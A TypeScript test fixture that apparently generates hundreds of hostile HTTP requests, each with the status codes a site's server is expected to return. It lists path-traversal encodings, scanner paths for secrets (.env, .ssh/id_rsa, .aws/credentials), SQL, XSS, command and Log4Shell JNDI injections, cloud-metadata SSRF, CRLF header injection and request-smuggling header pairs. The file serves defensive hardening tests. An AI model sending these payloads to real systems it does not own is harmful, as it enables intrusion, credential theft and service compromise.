/** Hostile requests by the hundred: every way to write a thing, at every place where it can stand. */
import type { HostileRequest } from './hostile-requests.ts';

const NOTHING_THERE = [400, 403, 404];
/** An odd line in the head is passed over or refused. */
const PASSED_OVER = [200, 400];

const DOTS = [
  '..',
  '%2e%2e',
  '.%2e',
  '%2e.',
  '%252e%252e',
  '..;',
  '....',
  '%c0%ae%c0%ae',
  '%uff0e%uff0e',
  '..%00',
  '. .',
  '%e0%80%ae%e0%80%ae',
];
const SLASHES = ['/', '\\', '%2f', '%5c', '%252f', '%c0%af', '//', '/./'];
const STARTS = ['/', '/en/home/', '/_astro/'];
const WANTED = ['package.json', 'etc/passwd'];

/** What scanners ask every website for. */
const SOUGHT = [
  '.env',
  '.env.local',
  '.env.production',
  '.env.bak',
  '.git/HEAD',
  '.git/config',
  '.git/index',
  '.gitignore',
  '.svn/entries',
  '.hg/store',
  '.DS_Store',
  '.htaccess',
  '.htpasswd',
  '.npmrc',
  '.ssh/id_rsa',
  '.aws/credentials',
  '.docker/config.json',
  '.vscode/settings.json',
  '.well-known/../package.json',
  'wp-login.php',
  'wp-admin/',
  'wp-config.php',
  'wp-content/debug.log',
  'wp-json/wp/v2/users',
  'xmlrpc.php',
  'phpinfo.php',
  'info.php',
  'phpmyadmin/',
  'pma/',
  'adminer.php',
  'admin/',
  'administrator/index.php',
  'user/login',
  'login',
  'login.aspx',
  'console/',
  'manager/html',
  'host-manager/html',
  'jmx-console/',
  'solr/admin/info/system',
  'actuator/env',
  'actuator/heapdump',
  'actuator/gateway/routes',
  'server-status',
  'server-info',
  'cgi-bin/test.cgi',
  'cgi-bin/.%2e/.%2e/.%2e/bin/sh',
  'cgi-bin/luci',
  'boaform/admin/formLogin',
  'HNAP1/',
  'setup.cgi',
  'GponForm/diag_Form',
  'vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  'vendor/.env',
  'telescope/requests',
  'storage/logs/laravel.log',
  '_ignition/execute-solution',
  'api/v1/users',
  'api/swagger.json',
  'swagger-ui.html',
  'v2/api-docs',
  'graphql',
  'graphiql',
  'debug/default/view',
  '_profiler/phpinfo',
  'trace.axd',
  'elmah.axd',
  'web.config',
  'WEB-INF/web.xml',
  'META-INF/MANIFEST.MF',
  'crossdomain.xml',
  'backup.zip',
  'backup.sql',
  'dump.sql',
  'db.sqlite3',
  'site.tar.gz',
  'dist.zip',
  'package.json',
  'package-lock.json',
  'node_modules/send/index.js',
  'yarn.lock',
  'Dockerfile',
  'docker-compose.yml',
  'Makefile',
  'server/main.ts',
  'src/pages/index.astro',
  'content/facts.yaml',
  'tsconfig.json',
  'astro.config.ts',
  '@fs/etc/passwd',
  '@vite/client',
  '_next/data/x.json',
  'remoteEntry.js',
  'owa/auth/logon.aspx',
  'autodiscover/autodiscover.xml',
  'ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application',
  'remote/login',
  'dana-na/auth/url_default/welcome.cgi',
  'vpn/index.html',
  '+CSCOE+/logon.html',
  'aspnet_client/',
  'struts2-showcase/',
  'shell.php',
  'c99.php',
  'cmd.jsp',
];

const INJECTIONS = [
  // oxlint-disable-next-line no-template-curly-in-string
  '${jndi:ldap://x.example/a}',
  "' OR '1'='1",
  '1;DROP TABLE pages',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}}',
  '<%= 7*7 %>',
  '$(id)',
  '`id`',
  '|id',
  ';id',
  '() { :;}; /bin/id',
  '../../../../etc/passwd',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'php://filter/resource=index',
  '%0d%0aSet-Cookie:%20a=b',
  '%0aLocation:%20//x.example',
  '%00',
  '%ff%fe',
  '__proto__[a]=1',
  'constructor.prototype.a=1',
  '*)(uid=*',
  '\u00e2\u0080\u00ae',
  '%F0%9F%92%A9'.repeat(50),
];
const QUERIES = ['/en/home/', '/hi/search/', '/en/opium/Eligible/', '/feeds/none'];
const HEADERS = [
  'User-Agent',
  'Referer',
  'Cookie',
  'X-Forwarded-For',
  'X-Forwarded-Host',
  'X-Original-URL',
  'X-Rewrite-URL',
  'Accept',
  'Accept-Language',
  'Accept-Encoding',
  'Authorization',
  'Origin',
  'If-None-Match',
  'If-Modified-Since',
  'Range',
];

const CONTROLS = [...Array.from({ length: 32 }, (_, code) => code), 127, 128, 133, 160, 173, 192, 255].map((code) =>
  String.fromCharCode(code),
);
const LINE_ENDS = ['\n', '\r'];

const METHODS = [
  'TRACE',
  'TRACK',
  'DEBUG',
  'PROPFIND',
  'PROPPATCH',
  'MKCOL',
  'COPY',
  'MOVE',
  'LOCK',
  'UNLOCK',
  'PUT',
  'DELETE',
  'PATCH',
  'POST',
  'PURGE',
  'LINK',
  'UNLINK',
  'REPORT',
  'SEARCH',
  'SUBSCRIBE',
  'get',
  'GETS',
  'G',
  'A'.repeat(500),
];
const METHOD_PLACES = ['/en/home/', '/', '/en/home', '/package.json', '/_astro/none.js'];

/** Two lengths for one body: whoever reads the other one takes a request out of it. */
const LENGTHS = [
  ['Transfer-Encoding: chunked', 'Content-Length: 4'],
  ['Content-Length: 4', 'Transfer-Encoding: chunked'],
  ['Content-Length: 0', 'Content-Length: 5'],
  ['Content-Length: 5, 0'],
  ['Content-Length: +5'],
  ['Content-Length: 0x5'],
  ['Content-Length: 5 '.repeat(2)],
  ['Content-Length: 99999999999999999999999'],
  ['Content-Length: a'],
  ['Transfer-Encoding: xchunked', 'Content-Length: 4'],
  ['Transfer-Encoding : chunked', 'Content-Length: 4'],
  ['Transfer-Encoding: chunked, identity', 'Content-Length: 4'],
  ['Transfer-Encoding: \u000bchunked', 'Content-Length: 4'],
  ['Transfer-Encoding: chunked', 'Transfer-Encoding: x', 'Content-Length: 4'],
];

export const HOSTILE_KINDS: HostileRequest[] = [
  ...STARTS.flatMap((start) =>
    DOTS.flatMap((dots) =>
      SLASHES.flatMap((slash) =>
        WANTED.map((file) => get(`${start}${`${dots}${slash}`.repeat(4)}${file}`, [], NOTHING_THERE)),
      ),
    ),
  ),
  ...SOUGHT.map((path) => get(`/${path}`, [], NOTHING_THERE)),
  ...INJECTIONS.flatMap((words) => [
    ...QUERIES.map((path) => get(`${path}?q=${inAddress(words)}`, [], [200, 400, 404])),
    get(`/en/${inAddress(words)}`, [], NOTHING_THERE),
    ...HEADERS.map((name) => get('/en/home/', [`${name}: ${words}`], [200, 206, 304, 400, 406, 416])),
  ]),
  ...CONTROLS.flatMap((sign) => [
    get(
      `/en/home/${sign}`,
      [],
      LINE_ENDS.includes(sign) ? [0, 200, 400, 404] : [0, ...NOTHING_THERE, ...(sign === ' ' ? [200] : [])],
      `${byteName(sign)} in the address`,
    ),
    get('/en/home/', [`X-Odd: a${sign}b`], PASSED_OVER, `${byteName(sign)} in a header`),
    get('/en/home/', [`X${sign}Odd: a`], PASSED_OVER, `${byteName(sign)} in the name of a header`),
  ]),
  ...METHODS.flatMap((method) =>
    METHOD_PLACES.map((path) => ({
      name: `${method.slice(0, 12)} ${path}`,
      raw: `${method} ${path} HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n`,
      answers: [308, 400, 403, 404, 405, 501],
    })),
  ),
  ...LENGTHS.map((lines) =>
    get('/en/home/', [...lines, 'Connection: close'], [200, 400, 405, 413, 501], lines.join(' and '), '0\r\n\r\n'),
  ),
];

function get(
  path: string,
  headers: string[],
  answers: number[],
  title = `${path} ${headers.join(' ')}`,
  body = '',
): HostileRequest {
  const raw = `${[`GET ${path} HTTP/1.1`, 'Host: a', ...headers].join('\r\n')}\r\n\r\n${body}`;
  return { name: title.trim().slice(0, 90), raw, answers };
}

/** As a scanner writes it: only what would end the line of the request is encoded. */
function inAddress(words: string): string {
  return words.replaceAll(' ', '%20');
}

function byteName(sign: string): string {
  return `byte ${sign.charCodeAt(0)}`;
}
